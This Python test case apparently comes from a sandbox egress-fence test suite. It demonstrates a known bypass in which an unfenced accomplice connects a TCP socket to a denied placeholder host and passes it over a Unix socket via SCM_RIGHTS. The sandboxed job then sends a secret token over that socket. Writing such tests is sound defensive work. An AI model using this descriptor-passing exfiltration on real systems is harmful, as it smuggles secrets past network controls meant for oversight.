"""An accomplice outside the fence passes, over a unix socket (SCM_RIGHTS), a TCP socket it connected to a denied host; the job writes the token to it. The kernel has no hook where the job's policy could judge a socket made outside: the documented remaining path (docs/threat-model.md)."""
import array
import tempfile
import time

from vlib import *  # noqa: F401,F403

POLICY = {"allow": [A4 + ":443"]}
AS = ("nobody",)
SINKS_OK = []
# no DENIED: the accomplice outside connects to the denied host itself (unfenced, as
# allowed); what must not get there is the job's token
DOC = "docs/threat-model.md"
# how the threat model would name this path (any of them)
DOC_MARKS = ("SCM_RIGHTS", "over a unix socket", "over a Unix socket", "accomplice")


def judge(ev):
    """A leak here is acceptable only if the threat model names this path."""
    leaked = ev.leaks() or ev.host_hits()
    here = os.path.dirname(os.path.abspath(__file__))
    path = os.path.join(here, "..", "..", "..", DOC)
    with open(path) as f:
        text = f.read()
    documented = any(k in text for k in DOC_MARKS)
    out = []
    if leaked and documented:
        # judge() in run.py already reported LEAK/REACHED: the docs make it the known gap
        out.append("DOCUMENTED: %s names this path (SCM_RIGHTS from an accomplice outside "
                   "the fence); not a failure" % DOC)
    elif leaked:
        out.append("UNDOCUMENTED: the token reached %s over a socket passed from outside, and "
                   "%s does not name the path (none of %s)" % (D4, DOC, DOC_MARKS))
    return out


def outside(token, st):
    d = tempfile.mkdtemp(prefix="ef-sec-unix-")
    os.chmod(d, 0o755)
    path = os.path.join(d, "accomplice.sock")
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(path)
    os.chmod(path, 0o777)
    srv.listen(1)
    pid = os.fork()
    if pid == 0:
        try:
            srv.settimeout(15)
            c, _ = srv.accept()
            t = make_socket()
            c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                                array.array("i", [t.fileno()]))])
            time.sleep(5)
        finally:
            os._exit(0)
    srv.close()
    st["pids"].append(pid)
    st["dir"] = d
    return {"args": [path]}


def make_socket():
    """What the accomplice passes: a TCP socket it connected to the denied host."""
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.connect((D4, 443))
    return t


def use(s, token):
    attempt("send on the passed socket", s.send, payload(token, "scm_rights"))


def outside_cleanup(st):
    import shutil
    shutil.rmtree(st.get("dir", "/nonexistent"), ignore_errors=True)


def job(token, args):
    u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    attempt("connect to the accomplice", u.connect, args[0])
    fds = array.array("i")
    try:
        _msg, anc, _f, _a = u.recvmsg(1, socket.CMSG_SPACE(4))
        for level, typ, data in anc:
            if level == socket.SOL_SOCKET and typ == socket.SCM_RIGHTS:
                fds.frombytes(data[:4])
    except OSError as e:
        out(step="recvmsg", ok=False, err=err_name(e))
    if fds:
        use(socket.socket(fileno=fds[0]), token)
        time.sleep(0.3)


if __name__ == "__main__":
    main(globals())
